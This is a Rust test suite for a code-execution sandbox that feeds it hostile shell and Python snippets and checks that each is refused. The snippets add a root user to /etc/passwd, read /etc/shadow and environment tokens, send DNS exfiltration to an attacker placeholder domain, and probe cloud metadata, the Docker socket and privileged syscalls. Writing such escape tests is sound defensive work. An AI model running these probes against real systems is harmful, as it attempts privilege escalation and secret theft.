//! Isolation: what hostile code can reach from inside a
//! sandbox (nothing of the host, the network, other sessions or earlier executions). Each
//! checks the outcome, that nothing is left running, and that the next execution works.

use crate::common::{DockerRuns, Harness};
use messages::exec::{ExecStatus, Language};

const POOL0: &[(&str, &str)] = &[("SANDMESH_EXEC_WARM_POOL", "0")];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rootfs_write() {
    let h = Harness::start_with(POOL0).await;
    let s = "rootfs";
    let r = h
        .hostile(
            Some(s),
            Language::Shell,
            "touch /usr/bin/x; echo 'evil::0:0::/:/bin/sh' >> /etc/passwd; echo x > /x; exit 0",
            None,
        )
        .await;
    assert_eq!(r.status, ExecStatus::Ok, "{r:?}");
    let refusals = r
        .stderr
        .lines()
        .filter(|l| l.contains("Read-only file system") || l.contains("Permission denied"));
    assert_eq!(refusals.count(), 3, "every write refused: {r:?}");
    assert!(
        r.stderr.contains("/usr/bin/x': Read-only file system"),
        "{r:?}"
    );
    h.assert_recovered(Some(s), 0).await;
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn tmp_persistence() {
    let h = Harness::start_with(&[("SANDMESH_EXEC_WARM_POOL", "1")]).await;
    // Piston's file_persistance.py, run twice: single-use containers keep nothing.
    let code = "import os\n\
        print(os.path.exists('/tmp/marker'), os.path.exists('/workspace/marker'))\n\
        open('/tmp/marker', 'w').write('x'); open('/workspace/marker', 'w').write('x')";
    for _ in 0..2 {
        let r = h.hostile(None, Language::Python, code, None).await;
        assert_eq!(
            (r.status, r.stdout.as_str()),
            (ExecStatus::Ok, "False False\n"),
            "{r:?}"
        );
    }
    h.assert_recovered(None, 1).await;
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn read_host_secrets() {
    let h = Harness::start_with(POOL0).await;
    let s = "secrets";
    let code = "cat /etc/shadow 2>&1 | head -1\n\
        ls /run/secrets 2>&1\n\
        cat /proc/self/environ /proc/1/environ | tr '\\0' '\\n' | grep -ci -E 'sandmesh|nats|docker_host|token|password'\n\
        ls /var/run/secrets 2>&1\n\
        true";
    let r = h.hostile(Some(s), Language::Shell, code, None).await;
    assert_eq!(r.status, ExecStatus::Ok, "{r:?}");
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert!(lines[0].contains("Permission denied"), "{r:?}");
    assert!(lines[1].contains("No such file or directory"), "{r:?}");
    assert_eq!(lines[2], "0", "no secrets in any environment: {r:?}");
    assert!(lines[3].contains("No such file or directory"), "{r:?}");
    h.assert_recovered(Some(s), 0).await;
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn proc_tricks() {
    let h = Harness::start_with(POOL0).await;
    let s = "proc";
    let code = "echo b > /proc/sysrq-trigger && echo SYSRQ-WRITTEN\n\
        echo kcore=$(head -c 16 /proc/kcore 2>/dev/null | wc -c)\n\
        ls /proc/1/root/ >/dev/null 2>&1 && echo ROOT-LISTED || echo root-denied\n\
        echo 1 > /proc/sys/kernel/panic 2>/dev/null && echo SYSCTL-WRITTEN\n\
        ls /proc | grep -cE '^[0-9]+$'\n\
        true";
    let r = h.hostile(Some(s), Language::Shell, code, None).await;
    assert_eq!(r.status, ExecStatus::Ok, "{r:?}");
    assert!(!r.stdout.contains("WRITTEN"), "{r:?}");
    assert!(r.stdout.contains("kcore=0"), "kcore is masked: {r:?}");
    // /proc/1/root is the container's own root at most (and the init is not dumpable).
    let procs: u32 = r.stdout.lines().last().unwrap().parse().unwrap();
    assert!(
        procs < 20,
        "only the container's own processes are visible: {r:?}"
    );
    h.assert_recovered(Some(s), 0).await;
    h.stop().await;
}

/// Python that tries a TCP connection and prints the errno (or `CONNECTED`).
fn connect(host: &str, port: u16) -> String {
    format!(
        "import socket\n\
         try:\n\
         \x20   socket.create_connection(({host:?}, {port}), timeout=1)\n\
         \x20   print('CONNECTED')\n\
         except OSError as e:\n\
         \x20   print('refused', e.errno)\n"
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn egress_blocked() {
    let h = Harness::start_with(POOL0).await;
    let s = "egress";
    let code = format!(
        "{}{}import urllib.request\ntry:\n    urllib.request.urlopen('https://example.com', timeout=1)\n    print('FETCHED')\n\
         except Exception as e:\n    print('no http')\nimport os\nprint(sorted(os.listdir('/sys/class/net')))",
        connect("1.1.1.1", 80),
        connect("8.8.8.8", 53)
    );
    let r = h.hostile(Some(s), Language::Python, &code, None).await;
    assert_eq!(r.status, ExecStatus::Ok, "{r:?}");
    assert_eq!(
        r.stdout, "refused 101\nrefused 101\nno http\n['lo']\n",
        "ENETUNREACH: {r:?}"
    );
    h.assert_recovered(Some(s), 0).await;
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn dns_exfil() {
    let h = Harness::start_with(POOL0).await;
    let s = "dns";
    let code = "import socket\n\
        try:\n    socket.getaddrinfo('secret-data.attacker.tld', 80)\n    print('RESOLVED')\n\
        except socket.gaierror as e:\n    print('unresolved')\n\
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n\
        try:\n    s.sendto(b'exfil', ('8.8.8.8', 53))\n    print('SENT')\n\
        except OSError as e:\n    print('not sent', e.errno)";
    let r = h.hostile(Some(s), Language::Python, code, None).await;
    assert_eq!(
        (r.status, r.stdout.as_str()),
        (ExecStatus::Ok, "unresolved\nnot sent 101\n"),
        "{r:?}"
    );
    h.assert_recovered(Some(s), 0).await;
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn metadata_ssrf() {
    let h = Harness::start_with(POOL0).await;
    let s = "imds";
    let v6 = "import socket\n\
        try:\n    socket.create_connection(('fd00:ec2::254', 80), timeout=1)\n    print('CONNECTED')\n\
        except OSError as e:\n    print('refused', e.errno)\n";
    let code = format!("{}{v6}", connect("169.254.169.254", 80));
    let r = h.hostile(Some(s), Language::Python, &code, None).await;
    assert_eq!(r.status, ExecStatus::Ok, "{r:?}");
    assert!(!r.stdout.contains("CONNECTED"), "{r:?}");
    assert_eq!(r.stdout.lines().count(), 2, "{r:?}");
    h.assert_recovered(Some(s), 0).await;
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn docker_socket() {
    let h = Harness::start_with(POOL0).await;
    let s = "docker-sock";
    let code = format!(
        "import os\nprint([p for p in ['/var/run/docker.sock', '/run/docker.sock', '/run/containerd/containerd.sock'] if os.path.exists(p)])\n{}{}",
        connect("172.17.0.1", 2375),
        connect("172.17.0.1", 2376)
    );
    let r = h.hostile(Some(s), Language::Python, &code, None).await;
    assert_eq!(
        (r.status, r.stdout.as_str()),
        (ExecStatus::Ok, "[]\nrefused 101\nrefused 101\n"),
        "{r:?}"
    );
    h.assert_recovered(Some(s), 0).await;
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn setuid_escalation() {
    let h = Harness::start_with(POOL0).await;
    let s = "setuid";
    let code = "find / -xdev -perm /6000 -type f 2>/dev/null | wc -l\n\
        command -v sudo su passwd | wc -l\n\
        python3 -c 'import os\ntry:\n  os.setuid(0); print(\"ROOT\")\nexcept PermissionError as e: print(\"denied\", e.errno)'\n\
        grep -E '^(NoNewPrivs|CapEff)' /proc/self/status | tr -s '\\t' ' '\n\
        id -u";
    let r = h.hostile(Some(s), Language::Shell, code, None).await;
    assert_eq!(r.status, ExecStatus::Ok, "{r:?}");
    let lines: Vec<&str> = r.stdout.lines().collect();
    assert_eq!(
        lines[0], "0",
        "no setuid/setgid binaries in the image: {r:?}"
    );
    assert_eq!(
        &lines[2..5],
        &["denied 1", "CapEff: 0000000000000000", "NoNewPrivs: 1"],
        "{r:?}"
    );
    let uid: u32 = lines[5].parse().expect("a uid");
    assert!(executor_node::UidRange::DOCKER.contains(uid), "{r:?}");
    h.assert_recovered(Some(s), 0).await;
    h.stop().await;
}

/// bubblewrap-style probes: each privileged syscall with harmless (null) arguments must be
/// refused with EPERM (seccomp or missing capability), never reach argument checking
/// (EFAULT/EINVAL/EBADF would mean it was allowed). x86_64 syscall numbers.
#[cfg(target_arch = "x86_64")]
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn mount_modules() {
    let h = Harness::start_with(POOL0).await;
    let s = "mount";
    let code = "import ctypes\n\
        libc = ctypes.CDLL(None, use_errno=True)\n\
        calls = {'mount': 165, 'umount2': 166, 'swapon': 167, 'reboot': 169, 'init_module': 175,\n\
        \x20        'finit_module': 313, 'kexec_load': 246, 'unshare': 272, 'setns': 308,\n\
        \x20        'pivot_root': 155, 'bpf': 321, 'keyctl': 250, 'open_by_handle_at': 304}\n\
        for name, nr in sorted(calls.items()):\n\
        \x20   arg = 0x10000000 if name == 'unshare' else 0\n\
        \x20   rc = libc.syscall(nr, arg, 0, 0, 0, 0)\n\
        \x20   print(name, rc, ctypes.get_errno())\n";
    let r = h.hostile(Some(s), Language::Python, code, None).await;
    assert_eq!(r.status, ExecStatus::Ok, "{r:?}");
    assert_eq!(r.stdout.lines().count(), 13, "{r:?}");
    for line in r.stdout.lines() {
        let parts: Vec<&str> = line.split(' ').collect();
        assert_eq!(parts[1], "-1", "{line}");
        assert!(parts[2] == "1", "EPERM expected: {line}");
    }
    let r = h
        .hostile(
            Some(s),
            Language::Shell,
            "unshare -r true; mount -t tmpfs x /tmp; echo $?",
            None,
        )
        .await;
    assert!(
        r.stdout.ends_with("1\n") || r.stdout.ends_with("32\n"),
        "{r:?}"
    );
    assert!(
        r.stderr.contains("Operation not permitted")
            || r.stderr.contains("permission denied")
            || r.stderr.contains("must be superuser"),
        "{r:?}"
    );
    h.assert_recovered(Some(s), 0).await;
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cross_session() {
    let h = Harness::start_with(POOL0).await;
    let r = h
        .hostile_until_timeout(
            Some("cross-a"),
            Language::Shell,
            "echo secret > /tmp/a-secret; echo secret > /workspace/a-file\n\
             setsid sleep 1000 < /dev/null > /dev/null 2>&1 &\n\
             sleep 5",
            None,
        )
        .await;
    assert_eq!(r.status, ExecStatus::Timeout, "{r:?}");
    let r = h
        .hostile(
            Some("cross-b"),
            Language::Shell,
            "ls -A /workspace; ls -A /tmp | grep -v '^.sandmesh$'; cat /tmp/a-secret /workspace/a-file 2>&1 | wc -l\n\
             for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done | grep -c '[s]leep 1000'",
            None,
        )
        .await;
    assert_eq!(r.stdout, "2\n0\n", "b sees nothing of a: {r:?}");
    for s in ["cross-a", "cross-b"] {
        h.assert_recovered(Some(s), 0).await;
    }
    h.stop().await;
}
